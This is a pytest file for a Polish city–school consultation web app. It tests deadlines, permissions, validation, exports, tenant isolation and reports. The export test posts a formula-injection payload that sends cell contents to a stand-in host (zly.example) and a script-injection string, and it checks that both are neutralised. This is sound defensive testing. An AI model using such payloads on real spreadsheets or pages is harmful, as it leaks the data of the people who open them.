"""Consultations with the school directors (docs/city.md, *Konsultacje z dyrektorami*): the city
opens one, directors answer and change their answer until the deadline (Europe/Warsaw), the city
sees each school's answer beside its numbers, the summary and who has not answered, the exports
are formula-safe, and nothing crosses to another city."""

from __future__ import annotations

import datetime as dt
import io
import re

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import text

from infra import clock
from infra.db import db
from tenants.tenancy.context import Tenant
from tenants.tenancy.context import tenant_scope
from tests.helpers import run_jobs

UTC = dt.UTC
# Hand-worked deadline: 15.12.2026 is in winter time (CET, UTC+1), so the last minute answers are
# taken is 15.12.2026 23:59 in Warsaw = 22:59 UTC; 23:00 UTC is already 16.12.2026 in Warsaw.
BEFORE = dt.datetime(2026, 12, 1, 10, 0, tzinfo=UTC)
LAST_MINUTE = dt.datetime(2026, 12, 15, 22, 59, tzinfo=UTC)
TOO_LATE = dt.datetime(2026, 12, 15, 23, 0, tzinfo=UTC)

ANSWER = {"satisfaction": "2", "problems": ["photos", "delays"], "problems_text": "Rodzice przysyłają złe zdjęcia.",
          "staff_hours": "6,5", "preference": "city_order", "comments": "Prosimy o wspólne zamówienie."}


def _open_consultation(official, **fields) -> int:
    created = official.post("/miasto/konsultacje/", data={
        "title": "Legitymacje: jak zamawiać od września?", "intro": "Pytamy przed decyzją.",
        "extra_question": fields.get("extra_question", ""), "deadline": fields.get("deadline", "15.12.2026")})
    assert created.status_code == 302, created.get_data(as_text=True)
    consultation_id = int(re.search(r"/miasto/konsultacje/(\d+)$", created.headers["Location"]).group(1))
    assert official.post(f"/miasto/konsultacje/{consultation_id}/otworz").status_code == 302
    return consultation_id


@pytest.fixture
def opened(two_schools, browser):
    with clock.pinned(BEFORE):
        official = browser("urzednik@test.pl")
        return _open_consultation(official, extra_question="Czy szkoła ma własną drukarkę kart?"), official


def test_the_city_opens_a_consultation_and_the_director_answers_until_the_deadline(two_schools, browser, opened):
    cid, official = opened
    director, secretary = browser("dyrektor.a@test.pl"), browser("sekretariat.a@test.pl")
    with clock.pinned(BEFORE):
        dashboard = director.get("/szkola/").get_data(as_text=True)
        assert "Konsultacja miasta: Legitymacje: jak zamawiać od września?" in dashboard
        assert "miasto czeka na odpowiedź dyrektora do 15.12.2026" in dashboard
        # The secretariat sees the questions but may not answer (404 for the POST, as any route it may not use).
        page = secretary.get(f"/szkola/konsultacje/{cid}").get_data(as_text=True)
        assert "Na konsultację odpowiada dyrektor szkoły" in page and "Wyślij odpowiedź" not in page
        assert secretary.post(f"/szkola/konsultacje/{cid}", data=ANSWER).status_code == 404
        # Each question's refusal names it, in Polish, 422, nothing stored.
        for bad, message in (({"satisfaction": "7"}, "w skali od 1 do 5"),
                             ({"staff_hours": "dużo"}, "od 0 do 999,9"),
                             ({"preference": "printer"}, "który sposób"),
                             ({"problems": ["other"], "problems_text": ""}, "opisz problem"),
                             ({"comments": "x" * 2001}, "najwyżej 2000 znaków"),
                             ({"comments": "Tekst\u202eodwrócony"}, "U+202E")):
            refused = director.post(f"/szkola/konsultacje/{cid}", data={**ANSWER, **bad})
            assert refused.status_code == 422 and message in refused.get_data(as_text=True), bad
        assert "Szkoła jeszcze nie odpowiedziała" in director.get(f"/szkola/konsultacje/{cid}").get_data(as_text=True)
        assert director.post(f"/szkola/konsultacje/{cid}", data={
            **ANSWER, "extra_answer": "Nie."}).status_code == 302
    with clock.pinned(LAST_MINUTE):  # changed on the deadline day, 23:59 in Warsaw: taken
        director = browser("dyrektor.a@test.pl")  # signed in afresh: two weeks later the session has lapsed
        changed = director.post(f"/szkola/konsultacje/{cid}",
                                data={**ANSWER, "satisfaction": "3", "extra_answer": "Nie."})
        assert changed.status_code == 302 and changed.headers["Location"].endswith(f"/szkola/konsultacje/{cid}")
    with clock.pinned(TOO_LATE):  # a minute later it is 16.12.2026 in Warsaw: refused, the answer stays
        director, official = browser("dyrektor.a@test.pl"), browser("urzednik@test.pl")
        late = director.post(f"/szkola/konsultacje/{cid}", data={**ANSWER, "satisfaction": "5"})
        assert late.status_code == 422
        assert "Termin odpowiedzi minął 15.12.2026; odpowiedzi nie można już złożyć ani zmienić." in \
            late.get_data(as_text=True)
        assert "Konsultacja miasta" not in director.get("/szkola/").get_data(as_text=True)  # no longer a call
        page = official.get(f"/miasto/konsultacje/{cid}").get_data(as_text=True)
    # The city: 1 of 2 schools answered; rating 3 (the last saved), hours 6.5; B has not answered.
    assert "1 z 2 szkół" in page
    summary = page[page.index('id="consultation_summary"'):page.index('id="consultation_missing"')]
    assert re.search(r"3 — przeciętnie</td><td class=\"num\">1</td><td class=\"num\">100,0", summary)
    assert re.search(r"średnia</td><td class=\"num\">3,0", summary)
    assert "Wspólne zamówienie miasta u drukarni zewnętrznej</td><td class=\"num\">1</td>" in summary
    missing = page[page.index('id="consultation_missing"'):page.index('id="consultation_answers"')]
    assert "Szkoła Podstawowa nr 2" in missing and "Szkoła Podstawowa nr 1" not in missing
    answers = page[page.index('id="consultation_answers"'):]
    assert "Rodzice przysyłają złe zdjęcia." in answers and "Nie." in answers
    # And beside the school's numbers on its own page.
    school_page = official.get(f"/miasto/szkola/{two_schools['a']}").get_data(as_text=True)
    assert "3 — przeciętnie" in school_page and "Prosimy o wspólne zamówienie." in school_page
    assert "Szkoła nie odpowiedziała" in official.get(f"/miasto/szkola/{two_schools['b']}").get_data(as_text=True)


def test_closing_refuses_further_answers_and_a_draft_is_not_shown_to_schools(two_schools, browser):
    with clock.pinned(BEFORE):
        official = browser("urzednik@test.pl")
        draft = official.post("/miasto/konsultacje/", data={"title": "Szkic", "deadline": "10.12.2026"})
        draft_id = int(draft.headers["Location"].rsplit("/", 1)[1])
        director = browser("dyrektor.a@test.pl")
        assert director.get(f"/szkola/konsultacje/{draft_id}").status_code == 404
        assert "Szkic" not in director.get("/szkola/konsultacje/").get_data(as_text=True)
        # A deadline in the past, or not a date: refused in Polish.
        for deadline, message in (("30.11.2026", "nie może być wcześniejszy niż dziś (01.12.2026)"),
                                  ("jutro", "dd.mm.rrrr")):
            refused = official.post("/miasto/konsultacje/", data={"title": "X", "deadline": deadline})
            assert refused.status_code == 422 and message in refused.get_data(as_text=True)
        assert official.post(f"/miasto/konsultacje/{draft_id}/otworz").status_code == 302
        assert director.post(f"/szkola/konsultacje/{draft_id}", data=ANSWER).status_code == 302
        assert official.post(f"/miasto/konsultacje/{draft_id}/zamknij").status_code == 302
        closed = director.post(f"/szkola/konsultacje/{draft_id}", data={**ANSWER, "satisfaction": "5"})
        assert closed.status_code == 422 and "zamknięta przez urząd" in closed.get_data(as_text=True)
        assert official.post(f"/miasto/konsultacje/{draft_id}/usun").status_code == 422  # only drafts go


def test_exports_are_formula_safe_and_text_is_escaped(two_schools, browser, opened):
    cid, official = opened
    director = browser("dyrektor.a@test.pl")
    hostile = '=HYPERLINK("http://zly.example/?"&A1,"kliknij")'
    with clock.pinned(BEFORE):
        assert director.post(f"/szkola/konsultacje/{cid}", data={
            **ANSWER, "comments": hostile, "problems_text": "<script>alert(1)</script>"}).status_code == 302
        page = official.get(f"/miasto/konsultacje/{cid}").get_data(as_text=True)
        csv = official.get(f"/miasto/konsultacje/{cid}/eksport/answers.csv")
        xlsx = official.get(f"/miasto/konsultacje/{cid}/eksport/answers.xlsx")
        assert official.get(f"/miasto/konsultacje/{cid}/eksport/nic.csv").status_code == 404
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    body = csv.data.decode("utf-8-sig")
    assert csv.status_code == 200 and "'=HYPERLINK" in body and ";=HYPERLINK" not in body
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" for c in cells)


def test_another_city_sees_nothing_of_the_consultation(app, world, two_schools, browser, opened):
    cid, _official = opened
    with clock.pinned(BEFORE):
        assert browser("dyrektor.a@test.pl").post(f"/szkola/konsultacje/{cid}", data=ANSWER).status_code == 302
    other = world.city("Miasto Drugie")
    other_school = world.school(other, "Szkoła w Drugim")
    world.user("urzednik.2@test.pl", other, "city_official")
    world.user("dyrektor.2@test.pl", other_school, "school_director")
    official, director = browser("urzednik.2@test.pl"), browser("dyrektor.2@test.pl")
    with clock.pinned(BEFORE):
        for url in (f"/miasto/konsultacje/{cid}", f"/miasto/konsultacje/{cid}/eksport/answers.csv"):
            assert official.get(url).status_code == 404
        for url in (f"/miasto/konsultacje/{cid}/otworz", f"/miasto/konsultacje/{cid}/zamknij"):
            assert official.post(url).status_code == 404
        assert "Legitymacje: jak" not in official.get("/miasto/konsultacje/").get_data(as_text=True)
        assert director.get(f"/szkola/konsultacje/{cid}").status_code == 404
        assert director.post(f"/szkola/konsultacje/{cid}", data=ANSWER).status_code == 404
        assert "Konsultacja miasta" not in director.get("/szkola/").get_data(as_text=True)
    # Row-level security alone (plain SQL, no ORM criteria): the other city and its school read
    # none of it, and the other school cannot write an answer into the first city's consultation.
    with app.app_context():
        with tenant_scope(Tenant(city_id=other)):
            assert db.session.execute(text("SELECT count(*) FROM consultations")).scalar() == 0
            assert db.session.execute(text("SELECT count(*) FROM consultation_answers")).scalar() == 0
            db.session.rollback()
        with tenant_scope(Tenant(school_id=other_school)):
            assert db.session.execute(text("SELECT count(*) FROM consultations")).scalar() == 0
            with pytest.raises(Exception, match="row-level security|violates"):
                db.session.execute(text(
                    "INSERT INTO consultation_answers (school_id, city_id, consultation_id, satisfaction, problems, "
                    "staff_hours, preference, answered_at, updated_at) VALUES (:s, :c, :k, 3, '[]', 1, 'no_opinion', "
                    "now(), now())"), {"s": other_school, "c": two_schools["city"], "k": cid})
            db.session.rollback()
        with tenant_scope(Tenant(school_id=two_schools["b"])):  # the same city's other school: not A's answer
            assert db.session.execute(text("SELECT count(*) FROM consultation_answers")).scalar() == 0
            assert db.session.execute(text("SELECT count(*) FROM consultations")).scalar() == 1
            db.session.rollback()


def test_the_council_report_carries_the_consultation(app, two_schools, browser, opened):
    cid, official = opened
    with clock.pinned(BEFORE):
        assert browser("dyrektor.a@test.pl").post(f"/szkola/konsultacje/{cid}", data=ANSWER).status_code == 302
        overview = official.get("/miasto/raporty").get_data(as_text=True)
        assert official.post("/miasto/raporty", data={}).status_code == 302, overview
        run_jobs(app)
        page = official.get("/miasto/raporty").get_data(as_text=True)
        link = re.search(r'href="(/miasto/raporty/\d+\.pdf)"', page).group(1)
        pdf = official.get(link).data
    flat = " ".join(" ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages).split())
    section = flat[flat.index("Konsultacje z dyrektorami szkół"):]
    for expected in ("odpowiedziało 1 z 2 szkół", "Szkoły odpowiadające i nieodpowiadające",
                     "Szkoła Podstawowa nr 1 tak 2", "Szkoła Podstawowa nr 2 nie", "Uwagi dyrektorów",
                     "Prosimy o wspólne zamówienie.", "15.12.2026"):
        assert expected in section, expected


def test_a_directors_comments_may_run_over_several_lines(two_schools, browser, opened):
    """The answer's text fields are textareas: line breaks are text there, not forbidden characters
    (portal.input_guard.MULTILINE_FIELDS), and the city reads them as written."""
    cid, official = opened
    director = browser("dyrektor.a@test.pl")
    comments = "Po pierwsze: zdjęcia.\r\nPo drugie: terminy."
    with clock.pinned(BEFORE):
        answered = director.post(f"/szkola/konsultacje/{cid}", data={
            **ANSWER, "comments": comments, "problems_text": "Złe zdjęcia\r\nSpóźnienia"})
        assert answered.status_code == 302, answered.get_data(as_text=True)
        csv = official.get(f"/miasto/konsultacje/{cid}/eksport/answers.csv").data.decode("utf-8-sig")
    assert "Po pierwsze: zdjęcia." in csv and "Po drugie: terminy." in csv


def test_the_form_the_draft_deletion_the_summary_and_the_file_names(two_schools, browser, opened):
    """Walk findings 8, 11 and 18: the new consultation's form is the city's fieldset grid with no
    date offered as a deadline; deleting a draft asks first; hours 12,5 and 6 average 9,25 → 9,3
    (half up); the downloads are named in Polish."""
    cid, official = opened
    with clock.pinned(BEFORE):
        page = official.get("/miasto/konsultacje/").get_data(as_text=True)
        form = page[page.index("Nowa konsultacja"):]
        assert '<fieldset><legend>Konsultacja</legend>' in form and '<div class="grid2">' in form
        deadline = re.search(r'<input id="c-deadline"[^>]*>', form).group(0)
        assert "placeholder" not in deadline and "01.12.2026" not in deadline
        draft = official.post("/miasto/konsultacje/", data={"title": "Szkic do usunięcia", "deadline": "10.12.2026"})
        draft_id = int(draft.headers["Location"].rsplit("/", 1)[1])
        asked = official.post(f"/miasto/konsultacje/{draft_id}/usun")
        html = asked.get_data(as_text=True)
        assert asked.status_code == 200 and "Usunąć konsultację?" in html and "„Szkic do usunięcia”" in html
        assert 'name="confirm" value="1"' in html
        assert official.get(f"/miasto/konsultacje/{draft_id}").status_code == 200  # still there
        assert official.post(f"/miasto/konsultacje/{draft_id}/usun", data={"confirm": "1"}).status_code == 302
        assert official.get(f"/miasto/konsultacje/{draft_id}").status_code == 404
        for email, hours in (("dyrektor.a@test.pl", "12,5"), ("dyrektor.b@test.pl", "6")):
            assert browser(email).post(f"/szkola/konsultacje/{cid}", data={**ANSWER, "staff_hours": hours,
                                                                           "extra_answer": "Nie."}).status_code == 302
        page = official.get(f"/miasto/konsultacje/{cid}").get_data(as_text=True)
        summary = page[page.index('id="consultation_summary"'):page.index('id="consultation_missing"')]
        assert re.search(r"średnio na szkołę</td><td class=\"num\">9,3<", summary)
        assert "2 z 2 szkół" in page
        for key, name in (("summary", "podsumowanie"), ("missing", "brak-odpowiedzi"), ("answers", "odpowiedzi")):
            response = official.get(f"/miasto/konsultacje/{cid}/eksport/{key}.csv")
            assert response.headers["Content-Disposition"] == \
                f'attachment; filename="legitka-konsultacja-{cid}-{name}-2026-12-01.csv"', key
